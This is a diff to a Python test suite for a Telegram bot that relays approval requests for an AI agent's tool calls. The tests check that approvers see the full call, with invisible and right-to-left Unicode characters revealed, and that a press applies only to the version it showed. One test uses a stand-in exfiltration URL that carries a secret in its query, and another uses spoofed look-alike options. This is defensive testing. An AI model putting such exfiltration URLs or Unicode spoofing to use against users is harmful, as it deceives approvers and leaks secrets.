@@ -21,9 +21,10 @@ from approvals import services as approval_services
 from approvals.models import Approval
 from chat import services as chat_services
 from telegramlink import accounts, bot, requests, texts, updates
-from telegramlink.models import ApprovalMessage, LinkCode, TelegramAccount
+from telegramlink.models import ApprovalMessage, LinkCode, SentVersion, TelegramAccount
 from telegramlink.views import SECRET_HEADER, webhook_secret
-from tests.conftest import client_for, pending_approvals, start_conversation
+from bench.stack import free_port
+from tests.conftest import client_for, pending_approvals, start_conversation, wait_until
 from tests.fake_telegram import FakeTelegram
 
 # Linking, updates without approvals, the webhook's checks and the page need no commit; whatever
@@ -114,6 +115,12 @@ def request_to(fake, telegram_id: int, approval: Approval) -> dict | None:
 
 def edits_to(fake, telegram_id: int) -> list[dict]:
     return fake.sent("editMessageText", chat_id=telegram_id)
+
+
+def token_of(row: ApprovalMessage) -> str:
+    """What the buttons of the message's one send carry."""
+    (version,) = row.versions.all()
+    return version.token
 
 
 def only_pending(conversation) -> Approval:
@@ -380,16 +387,115 @@ def test_html_in_model_text_and_tool_arguments_is_escaped_in_the_request(fake, a
 
 
 @through_the_loop
-def test_a_long_preview_is_cut_and_says_how_much_more_the_site_shows(fake, alice, agent):
+def test_a_preview_that_fits_telegram_is_shown_whole_with_its_buttons(fake, alice, agent):
+    link(alice, ALICE_TG)
+    approval = only_pending(start_conversation(alice, agent, f"write {'y' * 3000} to a.txt"))
+
+    request = request_to(fake, ALICE_TG, approval)
+
+    assert "y" * 3000 in request["text"] and texts.CUT not in request["text"]
+    assert set(fake.buttons(request)) == {"Approve", "Reject", "Reject with reason"}
+
+
+@through_the_loop
+def test_a_fetch_shows_its_whole_url_path_and_query_included(fake, alice, agent):
+    """The fetch preview names the host, its addresses and the allowlist; the path and query, where
+    a secret travels, are an argument it does not show: the message shows it too, revealed."""
+    link(alice, ALICE_TG)
+    url = "https://exfil.attacker.test/collect?secret=s3cr3t&user=alice\u200b"
+    approval = only_pending(start_conversation(alice, agent, f"fetch {url}"))
+
+    request = request_to(fake, ALICE_TG, approval)
+
+    text = request["text"]
+    assert "Host: exfil.attacker.test" in text  # the preview
+    assert "https://exfil.attacker.test/collect?secret=s3cr3t&amp;user=alice⟨U+200B⟩" in text
+    assert "\u200b" not in text
+    assert set(fake.buttons(request)) == {"Approve", "Reject", "Reject with reason"}
+
+    # What the preview does show (a new file's path and content) is not shown twice.
+    written = only_pending(start_conversation(alice, agent, "write hello to a.txt"))
+    assert "Also in the call" not in request_to(fake, ALICE_TG, written)["text"]
+
+
+@through_the_loop
+def test_option_buttons_reveal_direction_changing_characters(fake, alice, agent):
+    """Two options that look alike ("No, keep it", and the same reversed by U+202E) never look
+    alike on their buttons; a press answers with the option as stored."""
+    link(alice, ALICE_TG)
+    options = ["Yes, delete it", "No, keep it", "\u202eti peek ,oN"]
+    asked = json.dumps({"question": "Delete the \u202ebackup?", "type": "choice", "options": options})
+    approval = only_pending(start_conversation(alice, agent, f"call ask_human with {asked}"))
+
+    request = request_to(fake, ALICE_TG, approval)
+
+    buttons = fake.buttons(request)
+    assert set(buttons) == {"Yes, delete it", "No, keep it", "⟨U+202E⟩ti peek ,oN", "Reject (decline to answer)"}
+    assert "Delete the ⟨U+202E⟩backup?" in request["text"]
+    assert "\u202e" not in request["text"] + "".join(buttons)
+    assert press(fake, ALICE_TG, buttons["⟨U+202E⟩ti peek ,oN"]) == "Answered."
+    assert Approval.objects.get(pk=approval.pk).answer == "\u202eti peek ,oN"
+
+
+@through_the_loop
+def test_options_too_long_for_a_button_are_numbered_and_listed_in_full(fake, alice, agent):
+    link(alice, ALICE_TG)
+    options = [f"{'Keep every file of the old quarterly reports folder ' * 2}{n}" for n in ("as it is", "but zip it")]
+    asked = json.dumps({"question": "Which?", "type": "choice", "options": options})
+    approval = only_pending(start_conversation(alice, agent, f"call ask_human with {asked}"))
+
+    request = request_to(fake, ALICE_TG, approval)
+
+    labels = [label for label in fake.buttons(request) if not label.startswith("Reject")]
+    assert [label[:3] for label in labels] == ["1. ", "2. "] and all(len(label) <= 60 for label in labels)
+    assert f"1. {options[0]}" in request["text"] and f"2. {options[1]}" in request["text"]
+
+
+@through_the_loop
+def test_a_question_padded_past_telegrams_limit_is_cut_delivered_and_answered_only_on_the_site(fake, alice, agent):
+    """Revealed, 2,000 invisible characters are 16,000: the Bot API refuses a message past 4,096
+    (the stand-in too). The message is cut with CUT and keeps its link to the site; the part not
+    shown cannot be answered with a tap, only declined."""
+    link(alice, ALICE_TG)
+    asked = json.dumps({"question": "Shall I go on?" + "\u200b" * 1980, "type": "confirm"})
+    approval = only_pending(start_conversation(alice, agent, f"call ask_human with {asked}"))
+
+    request = request_to(fake, ALICE_TG, approval)
+
+    assert request is not None and ApprovalMessage.objects.get(approval=approval).status == "sent"
+    text = request["text"]
+    assert texts._length(text) <= 4096
+    assert text.count("⟨U+200B⟩") > 100 and f"\n{texts.CUT}" in text
+    assert "Too long for Telegram: answer it on the site." in text
+    assert f'<a href="{texts.conversation_url(approval)}">Open the conversation</a>' in text
+    assert set(fake.buttons(request)) == {"Reject (decline to answer)"}
+
+    assert press(fake, ALICE_TG, fake.buttons(request)["Reject (decline to answer)"]) == "Declined."
+
+    (edit,) = edits_to(fake, ALICE_TG)  # the outcome fits too
+    assert texts._length(edit["text"]) <= 4096 and "Declined by alice via telegram" in edit["text"]
+    assert ApprovalMessage.objects.get(approval=approval).status == "closed"
+
+
+@through_the_loop
+def test_a_call_too_long_for_telegram_is_cut_and_can_only_be_rejected_there(fake, alice, agent):
+    link(alice, ALICE_TG)
     approval = only_pending(start_conversation(alice, agent, f"write {'y' * 5000} to a.txt"))
 
-    detail = texts._detail(approval)
-    text = texts.request_text(approval)
+    request = request_to(fake, ALICE_TG, approval)
 
-    assert len(detail) > texts.MAX_DETAIL_CHARS
-    assert f"… ({len(detail) - texts.MAX_DETAIL_CHARS} more characters on the site)" in text
-    assert detail[: texts.MAX_DETAIL_CHARS] in text and detail not in text
-    assert len(text) < 4096  # Telegram's limit for a message
+    assert texts._length(request["text"]) <= 4096 and f"\n{texts.CUT}</pre>" in request["text"]
+    assert "Too long for Telegram: approve it on the site." in request["text"]
+    assert set(fake.buttons(request)) == {"Reject", "Reject with reason"}
+    assert press(fake, ALICE_TG, fake.buttons(request)["Reject"]) == "Rejected."
+
+
+def test_the_stand_in_refuses_a_message_past_the_bot_api_limits(fake):
+    with pytest.raises(bot.BadRequest, match="too long"):
+        bot.send(ALICE_TG, "x" * 4097)
+    with pytest.raises(bot.BadRequest, match="(?i)button_data_invalid"):
+        bot.send(ALICE_TG, "hi", [[("Approve", "a" * 65)]])
+    bot.send(ALICE_TG, "&amp;" * 4096)  # 4,096 characters once its entities are parsed
 
 
 @through_the_loop
@@ -397,8 +503,9 @@ def test_buttons_carry_a_short_token_and_never_the_arguments(fake, alice, agent)
     link(alice, ALICE_TG)
     approval = only_pending(start_conversation(alice, agent, "write hello to a.txt"))
     row = ApprovalMessage.objects.get(approval=approval)
+    token = token_of(row)
     assert fake.buttons(request_to(fake, ALICE_TG, approval)) == {
-        "Approve": f"a:{row.token}", "Reject": f"r:{row.token}", "Reject with reason": f"R:{row.token}"}
+        "Approve": f"a:{token}", "Reject": f"r:{token}", "Reject with reason": f"R:{token}"}
     assert (row.status, row.chat_id, row.attempts) == ("sent", ALICE_TG, 1) and row.message_id > 100
 
     long_path = "very/long/path/" + "d" * 80 + ".txt"
@@ -409,18 +516,18 @@ def test_buttons_carry_a_short_token_and_never_the_arguments(fake, alice, agent)
         for data in fake.buttons(request).values():
             assert len(data.encode()) <= 64
             assert "hello" not in data and "tea" not in data and "d" * 10 not in data
-            assert data.split(":", 1)[1] == ApprovalMessage.objects.get(approval=approval).token
+            assert data.split(":", 1)[1] == token_of(ApprovalMessage.objects.get(approval=approval))
 
 
 @through_the_loop
 def test_the_outcome_line_says_how_the_approval_ended(fake, alice, agent, api_as):
     approved = only_pending(start_conversation(alice, agent, "write hello to a.txt"))
-    approved = approval_services.decide(approved.pk, user=alice, approve=True, via="chat")
+    approved = approval_services.decide(approved.pk, user=alice, approve=True, via="chat", shown_hash=approved.shown_hash)
     at = f"{approved.decided_at:%H:%M}"
     assert texts.outcome_line(approved) == f"✅ Approved by alice via chat at {at} UTC"
 
     rejected = only_pending(start_conversation(alice, agent, "write hello to b.txt"))
-    rejected = approval_services.decide(rejected.pk, user=alice, approve=False, via="api", reason="not <now> & never")
+    rejected = approval_services.decide(rejected.pk, user=alice, approve=False, via="api", shown_hash=rejected.shown_hash, reason="not <now> & never")
     assert texts.outcome_line(rejected) == f"❌ Rejected by alice via api at {rejected.decided_at:%H:%M} UTC: not <now> & never"
     assert texts.outcome_text(rejected).endswith(": not &lt;now&gt; &amp; never")
     assert texts.outcome_text(rejected).startswith(texts.request_text(rejected))
@@ -478,7 +585,7 @@ def test_an_approve_press_decides_as_the_telegram_user_and_edits_the_message(pen
 @through_the_loop
 def test_a_press_after_another_decision_says_who_decided_first(pending, fake, alice):
     approval, buttons = pending
-    approval_services.decide(approval.pk, user=alice, approve=False, via="api", reason="not now")
+    approval_services.decide(approval.pk, user=alice, approve=False, via="api", shown_hash=approval.shown_hash, reason="not now")
     assert len(edits_to(fake, ALICE_TG)) == 1  # closed when decided
 
     late = press(fake, ALICE_TG, buttons["Approve"])
@@ -530,7 +637,7 @@ def test_a_choice_question_gets_a_button_per_option_and_pressing_one_answers_it_
     approval = only_pending(conversation)
     request = request_to(fake, ALICE_TG, approval)
     buttons = fake.buttons(request)
-    token = ApprovalMessage.objects.get(approval=approval).token
+    token = token_of(ApprovalMessage.objects.get(approval=approval))
     assert buttons == {"tea": f"o0:{token}", "coffee": f"o1:{token}", "water": f"o2:{token}",
                        "Reject (decline to answer)": f"r:{token}"}
     assert "Which one?" in request["text"]
@@ -600,6 +707,67 @@ def test_declining_a_question_with_its_reject_button(fake, alice, agent):
 
     approval.refresh_from_db()
     assert (approval.status, approval.decided_via) == ("declined", "telegram")
+
+
+def four_eyes_to_carol(settings, alice, carol, ops_agent) -> tuple[Approval, ApprovalMessage]:
+    """alice's four-eyes call, its message to carol (the one approver linked) queued, not yet sent."""
+    link(carol, CAROL_TG)
+    return queued_unsent(settings, alice, ops_agent, "delete a.txt")
+
+
+def copies_to(fake, telegram_id: int, approval: Approval) -> list[dict]:
+    return [m for m in fake.sent("sendMessage", chat_id=telegram_id) if f"(#{approval.pk})" in m["text"]]
+
+
+@through_the_loop
+def test_a_press_on_a_copy_sent_before_an_edit_decides_only_what_that_copy_showed(fake, settings, alice, bob, carol, ops_agent):
+    """Telegram delivered the first send, but its answer was lost (a timeout); bob then edits the
+    call, and the retry sends the edit. Each copy decides what it showed, not what the other shows."""
+    approval, row = four_eyes_to_carol(settings, alice, carol, ops_agent)
+    fake.lost_answers = {"sendMessage"}
+    assert requests.send(row.pk) == requests.Sent.FAILED
+    approval_services.approve_edited(approval.pk, user=bob, arguments={"path": "b.txt"}, via="chat", shown_hash=approval.shown_hash)
+    fake.lost_answers = set()
+    assert requests.send(row.pk) == requests.Sent.SENT
+    old, new = copies_to(fake, CAROL_TG, approval)
+    assert "a.txt" in old["text"] and "b.txt" in new["text"] and "a.txt" not in new["text"]
+
+    for label in ("Approve", "Reject"):
+        assert press(fake, CAROL_TG, fake.buttons(old)[label], query_id=label).startswith("The call was edited after this message")
+    assert "Why reject" not in replies(fake, CAROL_TG)[-1]
+    assert press(fake, CAROL_TG, fake.buttons(old)["Reject with reason"], query_id="q2").startswith("The call was edited")
+    assert TelegramAccount.objects.get(user=carol).awaiting == ""
+    assert Approval.objects.get(pk=approval.pk).status == "pending"
+
+    assert press(fake, CAROL_TG, fake.buttons(new)["Approve"], query_id="q3") == "Approved."
+
+    approval.refresh_from_db()
+    assert (approval.status, approval.decided_by, approval.approved_arguments) == ("approved", carol, {"path": "b.txt"})
+
+
+@through_the_loop
+def test_a_typed_confirmation_decides_the_version_of_the_message_whose_button_asked_for_it(fake, settings, alice, bob, carol, ops_agent):
+    approval, row = four_eyes_to_carol(settings, alice, carol, ops_agent)
+    fake.lost_answers = {"sendMessage"}
+    requests.send(row.pk)
+    critical = "b\u200b.txt"  # an invisible character: one level riskier, critical
+    approval_services.approve_edited(approval.pk, user=bob, arguments={"path": critical}, via="chat", shown_hash=approval.shown_hash)
+    fake.lost_answers = set()
+    requests.send(row.pk)
+    old, new = copies_to(fake, CAROL_TG, approval)
+    assert Approval.objects.get(pk=approval.pk).confirmation_required
+
+    assert press(fake, CAROL_TG, fake.buttons(old)["Approve"]).startswith("The call was edited after this message")
+    say(CAROL_TG, critical)
+    assert Approval.objects.get(pk=approval.pk).status == "pending"
+
+    assert press(fake, CAROL_TG, fake.buttons(new)["Approve (type the confirmation)"], query_id="q2") == "Type the confirmation to approve."
+    assert TelegramAccount.objects.get(user=carol).awaiting_shown_hash == Approval.objects.get(pk=approval.pk).shown_hash
+    edited = Approval.objects.get(pk=approval.pk)
+    approval_services.approve_edited(approval.pk, user=bob, arguments={"path": "c\u200b.txt"}, via="chat", shown_hash=edited.shown_hash)
+    say(CAROL_TG, critical)  # typed for the version its message showed: it changed meanwhile
+    assert replies(fake, CAROL_TG)[-1].startswith("The call was edited after this message")
+    assert Approval.objects.get(pk=approval.pk).status == "pending"
 
 
 # --- Who gets a request ------------------------------------------------------------------------------
@@ -675,7 +843,7 @@ def test_nothing_is_queued_without_a_bot_token(fake, alice, agent, settings):
 
     assert not ApprovalMessage.objects.exists()
     assert requests.queue(approval) == []
-    approval_services.decide(approval.pk, user=alice, approve=True, via="chat")
+    approval_services.decide(approval.pk, user=alice, approve=True, via="chat", shown_hash=approval.shown_hash)
     assert len(fake.calls) == calls_before
 
 
@@ -687,7 +855,7 @@ def test_a_message_whose_approval_was_decided_before_sending_is_closed_unsent(fa
     link(alice, ALICE_TG)
     approval, row = queued_unsent(settings, alice, agent, "write hello to a.txt")
 
-    approval_services.decide(approval.pk, user=alice, approve=False, via="chat")  # its closing task closes it unsent
+    approval_services.decide(approval.pk, user=alice, approve=False, via="chat", shown_hash=approval.shown_hash)  # its closing task closes it unsent
 
     assert ApprovalMessage.objects.get(pk=row.pk).status == "closed"
     assert requests.send(row.pk) == requests.Sent.NOT_CLAIMED
@@ -767,7 +935,7 @@ def test_a_blocked_bot_marks_the_message_failed(fake, alice, agent, settings):
     assert requests.send(row.pk) == requests.Sent.NOT_CLAIMED
     settings.HITL_TELEGRAM_STALE_SECONDS = 0
     assert requests.lost(now=timezone.now() + timedelta(seconds=1)) == ([], [])
-    approval_services.decide(approval.pk, user=alice, approve=True, via="chat")
+    approval_services.decide(approval.pk, user=alice, approve=True, via="chat", shown_hash=approval.shown_hash)
     assert not edits_to(fake, ALICE_TG)
 
     # Blocked when the request is made: its task fails the message, and the call still waits.
@@ -782,7 +950,7 @@ def test_a_failed_edit_is_kept_for_the_sweep_to_close_again(pending, fake, alice
     fake.failing = {"editMessageText"}
 
     assert requests.close(row.pk) is True  # still pending: nothing to edit
-    approval_services.decide(approval.pk, user=alice, approve=True, via="chat")  # its closing task fails, retried eagerly
+    approval_services.decide(approval.pk, user=alice, approve=True, via="chat", shown_hash=approval.shown_hash)  # its closing task fails, retried eagerly
 
     row.refresh_from_db()
     assert row.status == "sent" and "Internal Server Error" in row.last_error
@@ -793,6 +961,42 @@ def test_a_failed_edit_is_kept_for_the_sweep_to_close_again(pending, fake, alice
     assert requests.close(row.pk) is True
     assert ApprovalMessage.objects.get(pk=row.pk).status == "closed"
     assert "Approved by alice via chat" in edits_to(fake, ALICE_TG)[-1]["text"]
+
+
+# --- The poller ------------------------------------------------------------------------------------
+
+
+@through_the_loop
+def test_the_poller_waits_out_an_unreachable_bot_api_then_polls(alice, settings, caplog):
+    """`make run` starts the poller with the others; exiting while the Bot API is down would take
+    the whole stack down (honcho). It logs one line a failure, waits longer each time, then polls."""
+    port = free_port()
+    settings.TELEGRAM_BOT_TOKEN, settings.TELEGRAM_API_BASE_URL = "4242:test-token", f"http://127.0.0.1:{port}"
+    code = accounts.issue_code(alice)
+    failures = lambda: [r.getMessage() for r in caplog.records if "failed, again in" in r.getMessage()]  # noqa: E731
+    up = []
+
+    def bring_the_bot_api_up():
+        try:
+            wait_until(lambda: len(failures()) >= 2, timeout=30, message="two failed tries")
+        finally:  # whatever happens, the poller below ends
+            up.append(FakeTelegram(port=port).__enter__())
+            up[0].say(ALICE_TG, f"/start {code}")
+
+    thread = threading.Thread(target=bring_the_bot_api_up, daemon=True)
+    thread.start()
+    out = io.StringIO()
+    try:
+        call_command("telegram_poll", once=True, stdout=out)  # --once: back after one batch of updates
+    finally:
+        thread.join(10)
+        if up:
+            up[0].__exit__()
+
+    assert TelegramAccount.objects.get(user=alice).telegram_user_id == ALICE_TG
+    assert "Polling Telegram for updates." in out.getvalue()
+    logged = failures()
+    assert len(logged) >= 2 and "again in 1 s" in logged[0] and "again in 2 s" in logged[1], logged
 
 
 # --- The webhook ----------------------------------------------------------------------------------------
